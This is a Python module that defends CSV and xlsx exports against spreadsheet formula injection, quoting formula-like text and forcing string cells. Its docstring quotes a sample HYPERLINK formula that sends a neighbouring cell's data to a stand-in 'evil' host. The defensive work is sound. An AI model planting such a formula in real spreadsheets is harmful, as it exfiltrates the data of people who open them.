"""Cells for sheets people open in Excel or LibreOffice, with no formula injection.

A citizen who calls herself ``=HYPERLINK("http://evil/?"&B2;"Bấm")`` must appear in the register
as that text, not as a live link that sends the next column to a stranger (OWASP "CSV
injection"). Every CSV and xlsx writer in the project goes through this module:

* ``safe_csv(value)`` / ``SafeCsvWriter``: text starting with ``= + - @``, a tab or a carriage
  return gets a leading single quote, which spreadsheets show as text and do not evaluate.
* ``safe_cell(value)`` / ``append_row(sheet, values)``: in xlsx the text is kept as it is and
  stored as a string cell (openpyxl would otherwise store a str starting with ``=`` as a
  formula), with Excel's "quote prefix" so that editing the cell keeps it text.

Numbers stay numbers: ints, floats and Decimals are never touched, nor is text that is a plain
number (``-12.5``, ``+84912345678``), which a spreadsheet reads as that number and nothing else.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, Protocol

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?")


def is_formula_like(value: object) -> bool:
    """Whether a spreadsheet could read this value as a formula (or the start of one)."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and not _PLAIN_NUMBER.fullmatch(value)
    )


def safe_csv(value: Any) -> Any:
    """The value for a CSV cell: formula-like text gets a leading single quote."""
    return "'" + value if is_formula_like(value) else value


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> object: ...


class SafeCsvWriter:
    """Wraps a ``csv.writer``: every row goes through ``safe_csv``."""

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any], /) -> object:
        return self._writer.writerow([safe_csv(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]], /) -> None:
        for row in rows:
            self.writerow(row)


def safe_cell(cell: Any) -> Any:
    """Make an openpyxl cell holding formula-like text a plain string cell; returns the cell."""
    if is_formula_like(cell.value) or cell.data_type == "f":
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)``, with no cell of the new row a formula."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        safe_cell(cell)


__all__ = ["SafeCsvWriter", "append_row", "is_formula_like", "safe_cell", "safe_csv"]
